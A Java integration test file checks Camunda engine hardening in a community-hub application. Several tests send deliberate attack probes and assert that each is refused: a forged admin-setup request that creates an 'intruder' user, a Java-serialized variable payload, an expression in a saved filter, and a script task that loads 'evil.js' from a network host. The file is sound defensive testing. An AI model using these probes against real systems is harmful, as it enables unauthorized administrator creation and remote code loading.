package org.communityhub.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.communityhub.intake.IntakeCommandBuilder.aRequest;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.Base64;
import org.camunda.bpm.engine.FilterService;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.ProcessEngineConfiguration;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.filter.Filter;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;
import org.camunda.bpm.engine.variable.Variables;
import org.camunda.bpm.model.bpmn.Bpmn;
import org.camunda.bpm.model.bpmn.BpmnModelInstance;
import org.communityhub.intake.IntakeService;
import org.communityhub.intake.Need;
import org.communityhub.support.HubIntegrationTest;
import org.communityhub.support.Jobs;
import org.communityhub.support.Models;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Camunda's security guide as the hub applies it (platform/EngineSettingsPlugin), each setting
 * proven by what it refuses, plus the Admin setup guard with no administrator at all.
 */
@HubIntegrationTest
class EngineHardeningTest {

  @LocalServerPort int port;
  @Autowired ProcessEngineConfiguration configuration;
  @Autowired IdentityService identity;
  @Autowired RuntimeService runtime;
  @Autowired TaskService tasks;
  @Autowired FilterService filters;
  @Autowired RepositoryService repository;
  @Autowired ManagementService management;
  @Autowired IntakeService intake;
  private final HttpClient http = HttpClient.newHttpClient();

  @Test
  void adminSetupIsRefusedEvenWhenNoOneIsAnAdministrator() {
    // Camunda's own check only refuses while camunda-admin has a member: empty it, as a fresh store would be.
    identity.deleteMembership("admin", "camunda-admin");
    org.openqa.selenium.chrome.ChromeDriver browser = null;
    try {
      // As an attacker's browser would: load the Admin webapp (which offers the setup page now), then
      // call the setup endpoint with the CSRF token the webapp handed out, so only the hub's guard is left.
      browser = org.communityhub.support.HeadlessChrome.start();
      browser.get(base() + "/camunda/app/admin/default/");
      new org.openqa.selenium.support.ui.WebDriverWait(browser, java.time.Duration.ofSeconds(30))
          .until(d -> d.manage().getCookieNamed("XSRF-TOKEN") != null);
      browser.manage().timeouts().scriptTimeout(java.time.Duration.ofSeconds(30));
      Object answer = browser.executeAsyncScript("""
          const done = arguments[arguments.length - 1];
          const token = document.cookie.split('; ').find(c => c.startsWith('XSRF-TOKEN=')).split('=')[1];
          fetch('/camunda/api/admin/setup/default/user/create', {method: 'POST',
              headers: {'Content-Type': 'application/json', 'X-XSRF-TOKEN': token},
              body: JSON.stringify({profile: {id: 'intruder', firstName: 'I', lastName: 'N', email: 'i@example.org'},
                                    credentials: {password: 'intruder-password'}})})
            .then(r => r.text().then(t => done(r.status + ' ' + t)));""");
      assertThat(answer.toString()).startsWith("403").contains("Initial administrator setup is disabled");
      assertThat(identity.createUserQuery().userId("intruder").count()).as("user created by setup").isZero();
    } finally {
      if (browser != null) {
        browser.quit();
      }
      identity.deleteUser("intruder");
      identity.createMembership("admin", "camunda-admin");
    }
  }

  @Test
  void unboundedAndOversizedQueriesAreRefused() throws Exception {
    assertThat(get("/engine-rest/task", "admin").statusCode()).as("no maxResults").isEqualTo(400);
    assertThat(get("/engine-rest/history/process-instance?maxResults=2001", "admin").statusCode())
        .as("over the limit").isEqualTo(400);
    assertThat(get("/engine-rest/task?maxResults=2000", "admin").statusCode()).as("within the limit").isEqualTo(200);
  }

  @Test
  void javaSerializedVariablesAreRefused() {
    String reference = intake.submit(aRequest().needs(Need.OTHER).build()).reference();
    Jobs.awaitDueJobs(management);
    String instance = runtime.createProcessInstanceQuery().processInstanceBusinessKey(reference).singleResult().getId();
    // A serialized java.util.ArrayList (the bytes do not matter: the format itself is refused).
    String bytes = Base64.getEncoder().encodeToString(new byte[] {(byte) 0xAC, (byte) 0xED, 0, 5});
    assertThatThrownBy(() -> runtime.setVariable(instance, "payload", Variables.serializedObjectValue(bytes)
        .serializationDataFormat(Variables.SerializationDataFormats.JAVA).objectTypeName("java.util.ArrayList")
        .create())).hasMessageContaining("Java serialization format is prohibited");
    assertThat(runtime.getVariable(instance, "payload")).isNull();
    // Were Java serialization or a JSON/XML format ever enabled, types would still be checked on reading.
    assertThat(((ProcessEngineConfigurationImpl) configuration).isDeserializationTypeValidationEnabled()).isTrue();
  }

  @Test
  void savedFiltersCannotRunExpressions() {
    Filter filter = filters.newTaskFilter("expression filter").setOwner("admin")
        .setQuery(tasks.createTaskQuery().taskAssigneeExpression("${currentUser()}"));
    assertThatThrownBy(() -> filters.saveFilter(filter)).hasMessageContaining("Expressions are forbidden in stored queries");
    assertThat(filters.createFilterQuery().filterName("expression filter").count()).isZero();
  }

  @Test
  void scriptTasksCannotRunAndScriptsCannotLoadExternalResources() {
    assertThat(((ProcessEngineConfigurationImpl) configuration).isEnableScriptEngineLoadExternalResources()).isFalse();
    BpmnModelInstance model = Models.withNamedFlowIds(Bpmn.createExecutableProcess("script-probe")
        .camundaHistoryTimeToLive(1).startEvent("StartEvent_Probe").scriptTask("Task_Script").scriptFormat("javascript")
        .scriptText("load('http://127.0.0.1:9/evil.js')").endEvent("EndEvent_Probe").done());
    String deployment = repository.createDeployment().addModelInstance("script-probe.bpmn", model).deploy().getId();
    try {
      assertThatThrownBy(() -> runtime.startProcessInstanceByKey("script-probe"))
          .hasMessageContaining("javascript");
      assertThat(runtime.createProcessInstanceQuery().processDefinitionKey("script-probe").count()).isZero();
    } finally {
      repository.deleteDeployment(deployment, true);
    }
  }

  @Test
  void webappsSetCsrfAndSecurityHeadersAndHttpOnlySessionCookies() throws Exception {
    // A browser's cookie jar: the session and the XSRF-TOKEN cookie go back as a browser sends them.
    HttpClient browser = HttpClient.newBuilder().cookieHandler(new java.net.CookieManager()).build();
    HttpResponse<String> page = browser.send(HttpRequest.newBuilder(URI.create(base()
        + "/camunda/app/tasklist/default/")).build(), HttpResponse.BodyHandlers.ofString());
    assertThat(page.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(page.headers().firstValue("Content-Security-Policy")).isPresent();
    assertThat(page.headers().firstValue("X-Frame-Options")).isPresent();
    String xsrf = page.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("XSRF-TOKEN="))
        .findFirst().orElseThrow(() -> new AssertionError("no XSRF-TOKEN cookie: " + page.headers()));
    assertThat(xsrf).contains("Path=/camunda");
    String session = page.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID="))
        .findFirst().orElseThrow();
    assertThat(session).as("session cookie").contains("HttpOnly");

    String login = "username=nobody-" + System.nanoTime() + "&password=wrong";
    HttpResponse<String> withoutToken = browser.send(HttpRequest.newBuilder(URI.create(base()
            + "/camunda/api/admin/auth/user/default/login/tasklist"))
        .header("Content-Type", "application/x-www-form-urlencoded")
        .POST(HttpRequest.BodyPublishers.ofString(login)).build(), HttpResponse.BodyHandlers.ofString());
    assertThat(withoutToken.statusCode()).as("POST without the CSRF token").isEqualTo(403);
    assertThat(withoutToken.headers().firstValue("X-XSRF-TOKEN")).hasValue("Required");

    // With the token, the same login goes through: TasklistIntakeBrowserTest signs in with a real browser.
  }

  private HttpResponse<String> get(String path, String user) throws Exception {
    String basic = Base64.getEncoder().encodeToString((user + ":demo").getBytes());
    return http.send(HttpRequest.newBuilder(URI.create(base() + path)).header("Authorization", "Basic " + basic)
        .build(), HttpResponse.BodyHandlers.ofString());
  }

  private String base() {
    return "http://localhost:" + port;
  }
}
